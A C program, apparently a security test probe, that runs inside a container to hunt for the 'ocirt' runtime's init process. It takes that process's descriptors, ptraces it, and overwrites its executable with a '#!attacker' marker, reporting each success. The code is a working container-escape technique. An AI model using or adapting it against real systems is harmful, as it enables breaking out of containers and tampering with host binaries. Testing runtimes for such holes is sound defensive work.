/* What a container's process can do to those that enter the container: look for one that is ocirt-init, take hold of
 * what it has open, trace it, and write to the file that it executes. Prints a line for whatever works; runs until
 * it is killed.
 *
 * usage: fd_hunter
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

enum { KEPT = 64 };

static int kept[KEPT], kept_count;

static int is_init(const char *pid, char *target)
{
    char path[PATH_MAX];

    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    ssize_t size = readlink(path, target, PATH_MAX - 1);
    if (size <= 0)
        return 0;
    target[size] = 0;
    return strstr(target, "ocirt") != NULL;
}

static void take_descriptors(const char *pid)
{
    char path[PATH_MAX], target[PATH_MAX], exe[PATH_MAX];

    snprintf(path, sizeof path, "/proc/%.20s/fd", pid);
    DIR *folder = opendir(path);
    if (!folder)
        return;
    for (struct dirent *entry; (entry = readdir(folder));) {
        if (entry->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "/proc/%.20s/fd/%.20s", pid, entry->d_name);
        ssize_t size = readlink(path, target, sizeof target - 1);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (size > 0 && fd >= 0 && is_init(pid, exe)) { /* it is still */
            target[size] = 0;
            printf("descriptor %s\n", target);
        }
        if (fd >= 0)
            close(fd);
    }
    closedir(folder);
}

static void keep_executable(const char *pid)
{
    char path[PATH_MAX], target[PATH_MAX];

    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t size = readlink(path, target, sizeof target - 1);
    target[size > 0 ? size : 0] = 0;
    if (!strstr(target, "ocirt") || kept_count == KEPT) {
        close(fd);
        return;
    }
    printf("kept %s\n", target);
    kept[kept_count++] = fd;
}

/* A running program cannot be written to (ETXTBSY); later it can, unless it is sealed or on a readonly mount. */
static void overwrite(void)
{
    char path[PATH_MAX];

    for (int i = 0; i < kept_count; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0 && pwrite(fd, "#!attacker\n", 11, 0) == 11) {
            printf("overwritten\n");
            kept[i] = kept[--kept_count];
        }
        if (fd >= 0)
            close(fd);
    }
}

/* Stop it, look whether it is still ocirt-init, and let it go: who traces a process has to wait for its end. */
static void trace(int pid)
{
    char number[24], target[PATH_MAX];
    int status;

    if (ptrace(PTRACE_SEIZE, pid, 0, 0))
        return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) != pid)
        return;
    snprintf(number, sizeof number, "%d", pid);
    if (WIFSTOPPED(status) && is_init(number, target))
        printf("traced\n");
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(void)
{
    char target[PATH_MAX];

    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("ready\n");
    for (;;) {
        DIR *processes = opendir("/proc");
        if (!processes)
            return 1;
        for (struct dirent *entry; (entry = readdir(processes));) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid())
                continue;
            keep_executable(entry->d_name);
            if (is_init(entry->d_name, target)) {
                printf("seen %s\n", target);
                take_descriptors(entry->d_name);
                trace(pid);
            }
        }
        closedir(processes);
        overwrite();
    }
}
